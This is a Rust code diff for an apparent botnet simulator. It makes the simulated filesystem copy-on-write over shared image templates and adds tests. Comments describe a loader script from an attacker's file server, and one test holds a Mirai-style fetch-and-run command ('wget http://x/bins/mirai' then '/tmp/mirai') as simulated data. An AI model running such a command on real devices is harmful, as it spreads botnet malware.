@@ -11,10 +11,14 @@ use std::sync::Arc;
 use tinyvm::Arch;
 
 /// A shell script: a sequence of command lines.
+///
+/// Line storage is `Arc`-shared: the loader script served by the attacker's
+/// file server is downloaded into every infected device's filesystem, and
+/// cloning the script there (or into a forked world) shares one line vector
+/// instead of reallocating it per device (flyweight).
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ShellScript {
-    /// Command lines executed in order.
-    pub lines: Vec<String>,
+    lines: Arc<Vec<String>>,
 }
 
 impl ShellScript {
@@ -25,8 +29,13 @@ impl ShellScript {
         S: Into<String>,
     {
         ShellScript {
-            lines: lines.into_iter().map(Into::into).collect(),
+            lines: Arc::new(lines.into_iter().map(Into::into).collect()),
         }
+    }
+
+    /// The command lines, in execution order.
+    pub fn lines(&self) -> &[String] {
+        &self.lines
     }
 
     /// Approximate byte size of the script text.
@@ -124,7 +133,21 @@ impl fmt::Display for FsError {
 
 impl std::error::Error for FsError {}
 
-/// A flat in-memory filesystem.
+/// An immutable filesystem template: the sorted file manifest a container
+/// image starts from. Shared by `Arc` across every container built from the
+/// same image.
+pub type FsTemplate = Arc<BTreeMap<String, FileEntry>>;
+
+/// A flat in-memory filesystem, copy-on-write over an optional shared
+/// template.
+///
+/// A filesystem is the composition of an immutable, `Arc`-shared *base*
+/// (the image template — identical for every device built from the same
+/// firmware) and a private *overlay* of per-container changes. Writes,
+/// chmods, and removals land in the overlay (removals as tombstones); reads
+/// and iteration present the merged view. A fleet of 100k identical devices
+/// therefore stores its firmware manifest once, and each device pays only
+/// for the files it actually touched — the same layering Docker images use.
 ///
 /// # Examples
 ///
@@ -144,7 +167,11 @@ impl std::error::Error for FsError {}
 /// ```
 #[derive(Debug, Default, Clone)]
 pub struct SimFs {
-    files: BTreeMap<String, FileEntry>,
+    /// Shared image template, if the container was built from one.
+    base: Option<FsTemplate>,
+    /// Per-container changes: `Some` = written/updated file, `None` =
+    /// tombstone shadowing a base file.
+    overlay: BTreeMap<String, Option<FileEntry>>,
 }
 
 impl SimFs {
@@ -153,14 +180,70 @@ impl SimFs {
         SimFs::default()
     }
 
-    /// Writes (or replaces) a file.
-    pub fn write(&mut self, path: impl Into<String>, entry: FileEntry) {
-        self.files.insert(path.into(), entry);
+    /// A filesystem whose initial contents are the shared `template`.
+    pub fn from_template(template: FsTemplate) -> Self {
+        SimFs {
+            base: Some(template),
+            overlay: BTreeMap::new(),
+        }
     }
 
-    /// Iterates all files in sorted path order (serialization, digests).
+    /// Writes (or replaces) a file.
+    pub fn write(&mut self, path: impl Into<String>, entry: FileEntry) {
+        self.overlay.insert(path.into(), Some(entry));
+    }
+
+    /// Iterates all files in sorted path order (serialization, digests):
+    /// a sorted merge of base and overlay, overlay entries shadowing base
+    /// entries and tombstones hiding them.
     pub fn files(&self) -> impl Iterator<Item = (&str, &FileEntry)> {
-        self.files.iter().map(|(p, e)| (p.as_str(), e))
+        let mut base = self
+            .base
+            .as_deref()
+            .map(|b| b.iter().peekable());
+        let mut overlay = self.overlay.iter().peekable();
+        std::iter::from_fn(move || loop {
+            let base_path = base
+                .as_mut()
+                .and_then(|b| b.peek())
+                .map(|(p, _)| p.as_str());
+            let over_path = overlay.peek().map(|(p, _)| p.as_str());
+            match (base_path, over_path) {
+                (None, None) => return None,
+                (Some(_), None) => {
+                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
+                    return Some((p.as_str(), e));
+                }
+                (Some(bp), Some(op)) if bp < op => {
+                    let (p, e) = base.as_mut().and_then(|b| b.next())?;
+                    return Some((p.as_str(), e));
+                }
+                (Some(bp), Some(op)) => {
+                    if bp == op {
+                        // Overlay shadows the base entry (or tombstones it).
+                        base.as_mut().and_then(|b| b.next());
+                    }
+                    let (p, e) = overlay.next()?;
+                    if let Some(entry) = e {
+                        return Some((p.as_str(), entry));
+                    }
+                }
+                (None, Some(_)) => {
+                    let (p, e) = overlay.next()?;
+                    if let Some(entry) = e {
+                        return Some((p.as_str(), entry));
+                    }
+                }
+            }
+        })
+    }
+
+    fn lookup(&self, path: &str) -> Option<&FileEntry> {
+        match self.overlay.get(path) {
+            Some(Some(entry)) => Some(entry),
+            Some(None) => None, // tombstone
+            None => self.base.as_deref().and_then(|b| b.get(path)),
+        }
     }
 
     /// Reads a file.
@@ -169,41 +252,63 @@ impl SimFs {
     ///
     /// Returns [`FsError::NotFound`] if the path does not exist.
     pub fn read(&self, path: &str) -> Result<&FileEntry, FsError> {
-        self.files
-            .get(path)
+        self.lookup(path)
             .ok_or_else(|| FsError::NotFound(path.to_owned()))
     }
 
-    /// Marks a file executable (`chmod +x`).
+    /// Marks a file executable (`chmod +x`). A base file is copied up into
+    /// the overlay first.
     ///
     /// # Errors
     ///
     /// Returns [`FsError::NotFound`] if the path does not exist.
     pub fn chmod_exec(&mut self, path: &str) -> Result<(), FsError> {
-        let entry = self
-            .files
-            .get_mut(path)
-            .ok_or_else(|| FsError::NotFound(path.to_owned()))?;
+        if let Some(Some(entry)) = self.overlay.get_mut(path) {
+            entry.executable = true;
+            return Ok(());
+        }
+        let mut entry = match self.overlay.get(path) {
+            Some(None) => None, // tombstone: the path was deleted
+            _ => self.base.as_deref().and_then(|b| b.get(path)).cloned(),
+        }
+        .ok_or_else(|| FsError::NotFound(path.to_owned()))?;
         entry.executable = true;
+        self.overlay.insert(path.to_owned(), Some(entry));
         Ok(())
     }
 
     /// Removes a file; returns whether it existed.
     pub fn remove(&mut self, path: &str) -> bool {
-        self.files.remove(path).is_some()
+        let existed = self.lookup(path).is_some();
+        if !existed {
+            return false;
+        }
+        if self.base.as_deref().is_some_and(|b| b.contains_key(path)) {
+            // A tombstone must shadow the base entry.
+            self.overlay.insert(path.to_owned(), None);
+        } else {
+            self.overlay.remove(path);
+        }
+        true
     }
 
     /// Removes every file under `prefix` (e.g. `/tmp/` on reboot — tmpfs
     /// contents are volatile); returns how many were removed.
     pub fn remove_prefix(&mut self, prefix: &str) -> usize {
-        let before = self.files.len();
-        self.files.retain(|path, _| !path.starts_with(prefix));
-        before - self.files.len()
+        let doomed: Vec<String> = self
+            .files()
+            .map(|(p, _)| p.to_owned())
+            .filter(|p| p.starts_with(prefix))
+            .collect();
+        for path in &doomed {
+            self.remove(path);
+        }
+        doomed.len()
     }
 
     /// Whether a path exists.
     pub fn exists(&self, path: &str) -> bool {
-        self.files.contains_key(path)
+        self.lookup(path).is_some()
     }
 
     /// Resolves an executable for running.
@@ -222,12 +327,85 @@ impl SimFs {
 
     /// Total bytes stored.
     pub fn total_bytes(&self) -> u64 {
-        self.files.values().map(|f| f.size_bytes).sum()
+        self.files().map(|(_, f)| f.size_bytes).sum()
     }
 
     /// Number of files.
     pub fn file_count(&self) -> usize {
-        self.files.len()
+        self.files().count()
+    }
+
+    /// Number of entries in the private overlay (tests, diagnostics): how
+    /// much of the filesystem is *not* shared with the template.
+    pub fn overlay_len(&self) -> usize {
+        self.overlay.len()
+    }
+}
+
+/// Content-addressed store of filesystem templates.
+///
+/// Interning the same manifest twice yields the same `Arc` (one stored
+/// copy however many images describe identical contents). Content identity
+/// covers each file's path, size, execute bit, and kind — for scripts, the
+/// command lines; for executables, the architecture. Launcher closures are
+/// configuration-only by construction (see [`ProgramLauncher`]) and are not
+/// part of the identity.
+#[derive(Debug, Default)]
+pub struct FsTemplateStore {
+    templates: Vec<(u64, FsTemplate)>,
+}
+
+impl FsTemplateStore {
+    /// An empty store.
+    pub fn new() -> Self {
+        FsTemplateStore::default()
+    }
+
+    fn content_key(manifest: &BTreeMap<String, FileEntry>) -> u64 {
+        let mut h = netsim::StateHasher::new();
+        h.write_usize(manifest.len());
+        for (path, entry) in manifest {
+            h.write_str(path);
+            h.write_u64(entry.size_bytes);
+            h.write_bool(entry.executable);
+            match &entry.kind {
+                FileKind::Data => h.write_u64(0),
+                FileKind::Script(s) => {
+                    h.write_u64(1);
+                    h.write_usize(s.lines().len());
+                    for line in s.lines() {
+                        h.write_str(line);
+                    }
+                }
+                FileKind::Executable { arch, .. } => {
+                    h.write_u64(2);
+                    h.write_str(arch.suffix());
+                }
+            }
+        }
+        h.finish()
+    }
+
+    /// Interns `manifest`, returning the shared template — the existing one
+    /// if an identical manifest was interned before.
+    pub fn intern(&mut self, manifest: BTreeMap<String, FileEntry>) -> FsTemplate {
+        let key = Self::content_key(&manifest);
+        if let Some((_, t)) = self.templates.iter().find(|(k, _)| *k == key) {
+            return Arc::clone(t);
+        }
+        let template: FsTemplate = Arc::new(manifest);
+        self.templates.push((key, Arc::clone(&template)));
+        template
+    }
+
+    /// Number of distinct templates stored.
+    pub fn len(&self) -> usize {
+        self.templates.len()
+    }
+
+    /// Whether the store is empty.
+    pub fn is_empty(&self) -> bool {
+        self.templates.is_empty()
     }
 }
 
@@ -296,5 +474,118 @@ mod tests {
     fn script_byte_size_counts_newlines() {
         let s = ShellScript::new(["ab", "c"]);
         assert_eq!(s.byte_size(), 5);
+    }
+
+    fn template() -> FsTemplate {
+        Arc::new(BTreeMap::from([
+            ("/etc/config".to_owned(), data(3)),
+            (
+                "/usr/sbin/connmand".to_owned(),
+                FileEntry {
+                    kind: FileKind::Data,
+                    size_bytes: 900,
+                    executable: true,
+                },
+            ),
+        ]))
+    }
+
+    #[test]
+    fn template_files_are_visible_and_unshadowed_until_written() {
+        let fs = SimFs::from_template(template());
+        assert!(fs.exists("/etc/config"));
+        assert_eq!(fs.total_bytes(), 903);
+        assert_eq!(fs.file_count(), 2);
+        assert_eq!(fs.overlay_len(), 0);
+        assert!(fs.resolve_executable("/usr/sbin/connmand").is_ok());
+    }
+
+    #[test]
+    fn overlay_shadows_and_merges_in_sorted_order() {
+        let mut fs = SimFs::from_template(template());
+        fs.write("/etc/config", data(10)); // shadow
+        fs.write("/tmp/mirai", data(7)); // new
+        let listed: Vec<(String, u64)> = fs
+            .files()
+            .map(|(p, e)| (p.to_owned(), e.size_bytes))
+            .collect();
+        assert_eq!(
+            listed,
+            vec![
+                ("/etc/config".to_owned(), 10),
+                ("/tmp/mirai".to_owned(), 7),
+                ("/usr/sbin/connmand".to_owned(), 900),
+            ]
+        );
+        assert_eq!(fs.total_bytes(), 917);
+    }
+
+    #[test]
+    fn removing_a_base_file_tombstones_it() {
+        let mut fs = SimFs::from_template(template());
+        assert!(fs.remove("/etc/config"));
+        assert!(!fs.exists("/etc/config"));
+        assert!(!fs.remove("/etc/config"));
+        assert_eq!(fs.file_count(), 1);
+        // A fresh write over the tombstone resurrects the path.
+        fs.write("/etc/config", data(5));
+        assert_eq!(fs.read("/etc/config").expect("resurrected").size_bytes, 5);
+    }
+
+    #[test]
+    fn chmod_copies_a_base_file_up() {
+        let mut fs = SimFs::from_template(template());
+        assert!(fs.resolve_executable("/etc/config").is_err());
+        fs.chmod_exec("/etc/config").expect("exists in base");
+        assert!(fs.resolve_executable("/etc/config").is_ok());
+        assert_eq!(fs.overlay_len(), 1);
+        // Tombstoned base files cannot be chmodded back to life.
+        fs.remove("/usr/sbin/connmand");
+        assert!(matches!(
+            fs.chmod_exec("/usr/sbin/connmand"),
+            Err(FsError::NotFound(_))
+        ));
+    }
+
+    #[test]
+    fn remove_prefix_spans_base_and_overlay() {
+        let mut fs = SimFs::from_template(template());
+        fs.write("/etc/extra", data(1));
+        assert_eq!(fs.remove_prefix("/etc/"), 2);
+        assert!(!fs.exists("/etc/config"));
+        assert!(!fs.exists("/etc/extra"));
+        assert!(fs.exists("/usr/sbin/connmand"));
+    }
+
+    #[test]
+    fn template_store_is_content_addressed() {
+        let mut store = FsTemplateStore::new();
+        let manifest = |size| {
+            BTreeMap::from([(
+                "/usr/sbin/dnsmasq".to_owned(),
+                FileEntry {
+                    kind: FileKind::Data,
+                    size_bytes: size,
+                    executable: true,
+                },
+            )])
+        };
+        let a = store.intern(manifest(100));
+        let b = store.intern(manifest(100));
+        let c = store.intern(manifest(200));
+        assert!(Arc::ptr_eq(&a, &b), "identical manifests share one template");
+        assert!(!Arc::ptr_eq(&a, &c));
+        assert_eq!(store.len(), 2);
+    }
+
+    #[test]
+    fn cloned_scripts_share_line_storage() {
+        let s = ShellScript::new(["wget http://x/bins/mirai", "/tmp/mirai"]);
+        let downloaded = s.clone();
+        assert_eq!(s, downloaded);
+        assert!(std::ptr::eq(
+            s.lines().as_ptr(),
+            downloaded.lines().as_ptr()
+        ));
     }
 }
